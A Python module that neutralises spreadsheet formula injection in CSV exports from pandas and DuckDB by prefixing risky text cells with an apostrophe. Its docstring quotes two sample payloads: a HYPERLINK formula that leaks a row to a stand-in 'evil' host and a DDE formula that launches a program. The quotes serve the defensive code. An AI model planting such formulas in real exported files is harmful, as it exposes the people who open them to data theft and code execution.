"""CSV files a spreadsheet opens safely: no cell starts as a formula.

A cell beginning with `=`, `+`, `-`, `@`, a tab or a carriage return (or their full-width forms,
which some spreadsheet locales read the same way) is run as a formula when the file is opened:
`=HYPERLINK("http://evil/?"&A1)` leaks a row, `=cmd|' /C calc'!A0` starts a program. Every CSV
Tierwise writes from data goes through here, and such text cells get a leading `'`, as OWASP
advises (https://owasp.org/www-community/attacks/CSV_Injection); numbers, dates and booleans are
written as they are, so a negative amount stays a number.
"""

from __future__ import annotations

from pathlib import Path

import pandas as pd

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def neutralise(value: object) -> object:
    """A text cell that would start a formula, with a leading apostrophe; anything else as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of the frame whose text cells can't start a formula (header included)."""
    out = frame.copy()
    for column in out.columns:
        if not (pd.api.types.is_numeric_dtype(out[column]) or pd.api.types.is_datetime64_any_dtype(out[column])
                or pd.api.types.is_bool_dtype(out[column])):
            out[column] = out[column].map(neutralise)
    out.columns = [neutralise(str(c)) for c in out.columns]
    return out


def write_csv(frame: pd.DataFrame, path: str | Path) -> None:
    """Write a frame as CSV with its text cells neutralised. Lines end in CRLF (RFC 4180), so a cell holding a
    lone carriage return is quoted, and can't start a line of its own that begins with '='."""
    neutralise_frame(frame).to_csv(path, index=False, lineterminator="\r\n")


def neutralised_select(con, query: str, order_by: str = "") -> str:
    """SQL selecting the rows of `query` with every text column neutralised, for DuckDB's COPY/write_csv;
    `order_by` orders the result (a subquery's own order is not kept)."""
    cursor = con.cursor()
    try:
        described = cursor.execute(f"DESCRIBE {query}").fetchall()
    finally:
        cursor.close()
    starts = ", ".join("'" + s.replace("'", "''") + "'" for s in FORMULA_START)
    columns = []
    for name, kind, *_ in described:
        quoted = '"' + str(name).replace('"', '""') + '"'
        alias = '"' + str(neutralise(str(name))).replace('"', '""') + '"'
        if str(kind).upper().startswith("VARCHAR"):
            columns.append(f"CASE WHEN left({quoted}, 1) IN ({starts}) THEN '''' || {quoted} ELSE {quoted} END AS {alias}")
        else:
            columns.append(f"{quoted} AS {alias}")
    return f"SELECT {', '.join(columns)} FROM ({query})" + (f" ORDER BY {order_by}" if order_by else "")
